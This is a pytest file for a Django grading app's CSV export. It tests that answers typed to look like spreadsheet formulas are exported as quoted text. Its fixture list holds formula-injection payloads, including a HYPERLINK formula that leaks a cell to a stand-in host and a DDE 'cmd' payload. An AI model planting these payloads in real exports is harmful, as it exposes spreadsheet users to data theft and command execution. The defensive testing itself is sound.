"""The attempts export as CSV: typed answers cannot become spreadsheet formulas."""

import csv
import io
import json

import pytest
from django.urls import reverse

from grading import services

# Each is followed by enough words to be recorded as an explanation (MIN_EXPLANATION_WORDS).
_WORDS = " because KV reads grow with batch and context"
HOSTILE = [s + _WORDS for s in ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0",
                                 "-2+3", "@SUM(A1:A2)", "\tx", "\r=1"]]


def _explain(user, version, answer):
    return services.attempt_submit(user=user, version=version, part_id="why", seed=3, answer=answer).attempt


def _csv_rows(client):
    return list(csv.DictReader(io.StringIO(client.get(reverse("export-attempts", args=["csv"])).content.decode())))


@pytest.mark.parametrize("answer", HOSTILE)
def test_a_formula_typed_as_an_answer_is_text_in_the_csv(client, login_as, candidate, decode_question, answer):
    assert _explain(candidate, decode_question, answer) is not None
    login_as(candidate)
    [row] = _csv_rows(client)
    assert row["answer"] == "'" + answer
    # The JSON export is data, not a spreadsheet: it keeps the answer as typed.
    [record] = json.loads(client.get(reverse("export-attempts", args=["json"])).content)
    assert record["answer"] == answer


def test_ordinary_cells_are_left_alone(client, login_as, candidate, decode_question):
    _explain(candidate, decode_question, "KV reads add bytes per step = more time per token")
    login_as(candidate)
    [row] = _csv_rows(client)
    assert row["answer"] == "KV reads add bytes per step = more time per token"
    assert row["question"] == "test-decode-floor" and row["part"] == "why"
